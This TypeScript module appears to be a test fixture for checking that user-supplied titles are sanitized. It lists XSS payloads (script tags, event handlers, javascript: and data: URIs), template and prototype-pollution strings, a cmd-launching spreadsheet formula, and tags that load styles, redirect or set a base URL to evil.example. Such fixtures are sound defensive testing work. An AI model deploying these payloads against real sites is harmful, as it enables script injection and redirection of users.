/** What an attacker writes where a title is asked for: each tries to call `window.hostile` by another way. */
const run = "window.hostile=1";

export const hostileTexts: readonly string[] = [
	`<script>${run}</script>`,
	`"><script>${run}</script>`,
	`'><img src=x onerror="${run}">`,
	`<img/src=x/onerror=${run}>`,
	`<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
	`<svg><script href="data:text/javascript,${run}"></script></svg>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	`<iframe src="javascript:parent.${run}"></iframe>`,
	`<object data="data:text/html,<script>parent.${run}</script>"></object>`,
	`<body onload=${run}>`,
	`<details open ontoggle="${run}">x</details>`,
	`<input autofocus onfocus="${run}">`,
	`<style>@import "https://evil.example/a.css";*{background:url("https://evil.example/b.png")}</style>`,
	`<link rel=stylesheet href="https://evil.example/c.css">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example/"><button formaction="javascript:${run}">x</button></form>`,
	`<math><mtext></mtext><a xlink:href="javascript:${run}">x</a></math>`,
	`</title></textarea></style></script><script>${run}</script>`,
	`]]><script>${run}</script>`,
	`--><script>${run}</script><!--`,
	`\${${run}}{{constructor.constructor("${run}")()}}`,
	`<a href="javascript:${run}">javascript:${run}</a>`,
	`[click](javascript:${run})`,
	`javascript:${run}//https://example.org`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>${run}</script>`,
	`=HYPERLINK("https://evil.example","x")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`&lt;script&gt;${run}&lt;/script&gt;&#x3C;script&#x3E;`,
	`\u202e<\u200bscript>${run}</script>\u2028${run}`,
	`x" style="background:url(javascript:${run})" onmouseover="${run}`,
	`__proto__`,
	`constructor.prototype.hostile`,
];

/** The next of them at each call. */
export function hostileWriter(): (most?: number) => string {
	let count = 0;
	return (most = 20_000) => {
		const text = hostileTexts[count % hostileTexts.length] ?? "";
		count += 1;
		return text.slice(0, most);
	};
}
